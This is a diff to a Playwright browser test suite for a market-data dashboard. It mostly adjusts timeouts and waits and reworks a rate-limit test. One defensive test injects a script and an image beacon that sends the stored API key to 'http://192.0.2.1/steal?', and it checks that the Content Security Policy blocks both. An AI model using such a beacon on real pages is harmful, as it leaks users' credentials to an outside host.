@@ -5,9 +5,11 @@ import json
 import random
 import re
 import threading
+import time
 from contextlib import contextmanager
 from datetime import timedelta
 from decimal import Decimal
+from types import SimpleNamespace
 from urllib.parse import urlsplit
 
 import httpx
@@ -31,11 +33,15 @@ OTHER_KEYS = {
     "slow-key": {"limits": {"requests_per_second": 1, "burst": 3, "concurrent": 1}},
     "rio-key": {"rules": {"symbols": ["RIO"]}},
 }
+AFTER_FRAMES = """async () => {
+    for (let frame = 0; frame < 4; frame++) await new Promise(done => requestAnimationFrame(done));
+}"""
 DESKTOP, PHONE = {"width": 1280, "height": 860}, {"width": 390, "height": 844}
 
-expect.set_options(timeout=20_000)
+expect.set_options(timeout=60_000)
 pytestmark = [
     pytest.mark.real,
+    pytest.mark.timeout(600),
     pytest.mark.skipif(
         not (FOLDER / CHART_LIBRARY).exists(),
         reason="the chart library is not here: npm was away when k2 was installed",
@@ -115,7 +121,7 @@ class Tab:
     def __init__(self, chromium, url, **options):
         self.context = chromium.new_context(viewport=DESKTOP, locale="en-GB", **options)
         self.page = self.context.new_page()
-        self.page.set_default_timeout(15_000)
+        self.page.set_default_timeout(60_000)
         self.url = url
         self.complaints = []
         self.requests = []
@@ -287,7 +293,7 @@ def test_bars_are_read_from_the_chart_by_keyboard(week, tab):
             "(chart, keys) => { for (const key of keys) chart.dispatchEvent(new KeyboardEvent('keydown', { key })); }",
             keys,
         )
-        page.wait_for_timeout(300)
+        page.evaluate(AFTER_FRAMES)
         assert page.locator("#legend [data-of=time]").text_content() == chosen[0], keys
     page.keyboard.press("Escape")
     assert mine.complaints == []
@@ -329,7 +335,6 @@ def test_a_commit_is_shown_by_itself_and_a_new_day_is_followed(own, lake, tab):
     assert mine.complaints == []
 
 
-@pytest.mark.timeout(400)
 def test_what_kafka_holds_is_shown_before_it_is_committed_and_counted_once(pipeline, tab):
     pipeline.produce(0, 1_000)
     pipeline.finish()
@@ -378,13 +383,18 @@ def test_a_wrong_key_is_refused_in_words_and_the_right_one_helps(week, tab):
     assert page.evaluate("Object.values(sessionStorage)") == []
 
 
-def test_a_key_that_asks_too_often_waits_as_it_is_told(week, tab):
-    mine = tab(week)
-    page = mine.open(key="slow-key")
-    expect(page.get_by_role("alert").filter(has_text="Too many requests")).to_be_visible()
-    expect(page.get_by_role("button", name=re.compile(r"Try again \(\d s\)"))).to_be_visible()
-    expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
-    expect(page.locator("#problem")).to_be_hidden()
+def test_a_key_that_asks_too_often_waits_as_it_is_told(lake, tmp_path, tab, monkeypatch):
+    append_ticks(lake, market("BHP", OPEN, 5, 35.0, 1))
+    goes = threading.Event()  # the service's clock: until both were seen, no request is given back
+    clock = SimpleNamespace(time=time.time, monotonic=lambda: time.monotonic() if goes.is_set() else 0.0)
+    monkeypatch.setattr("k2.api.app.time", clock)
+    with serving(tmp_path) as url:
+        page = tab(url).open(key="slow-key")
+        expect(page.get_by_role("alert").filter(has_text="Too many requests")).to_be_visible()
+        expect(page.get_by_role("button", name=re.compile(r"Try again \(\d s\)"))).to_be_visible()
+        goes.set()
+        expect(page.get_by_role("heading", level=1)).to_have_text("BHP · ASX")
+        expect(page.locator("#problem")).to_be_hidden()
 
 
 def test_a_key_sees_on_the_page_what_its_rules_let_it_see(week, tab):
@@ -454,6 +464,8 @@ def test_the_theme_follows_the_system_until_it_is_chosen(week, tab, tmp_path):
         expect(page.locator("#bars tr")).to_have_count(72)
         page.screenshot(path=pictures / f"{scheme}.png")
         page.set_viewport_size(PHONE)
+        page.wait_for_function(f"innerWidth === {PHONE['width']}")
+        page.evaluate(AFTER_FRAMES)  # the chart has followed
         assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing stands out at the side"
         page.screenshot(path=pictures / f"{scheme}-phone.png", full_page=True)
         page.set_viewport_size(DESKTOP)
@@ -471,14 +483,15 @@ def test_nothing_runs_or_is_loaded_from_elsewhere_even_if_it_is_smuggled_in(week
     mine = tab(week)
     page = mine.open()
     expect(page.locator("#bars tr")).to_have_count(72)
-    page.evaluate("""() => {
-        const script = document.createElement("script");
-        script.textContent = "window.smuggled = true";
-        document.body.append(script);
-        const picture = new Image();
-        picture.src = "http://192.0.2.1/steal?" + sessionStorage.getItem("k2-api-key");
-        document.body.append(picture);
-    }""")
+    with page.expect_console_message(lambda said: "Content Security Policy" in said.text):
+        page.evaluate("""() => {
+            const script = document.createElement("script");
+            script.textContent = "window.smuggled = true";
+            document.body.append(script);
+            const picture = new Image();
+            picture.src = "http://192.0.2.1/steal?" + sessionStorage.getItem("k2-api-key");
+            document.body.append(picture);
+        }""")
     assert page.evaluate("window.smuggled") is None
     assert [said for said in mine.complaints if "Content Security Policy" in said]
 
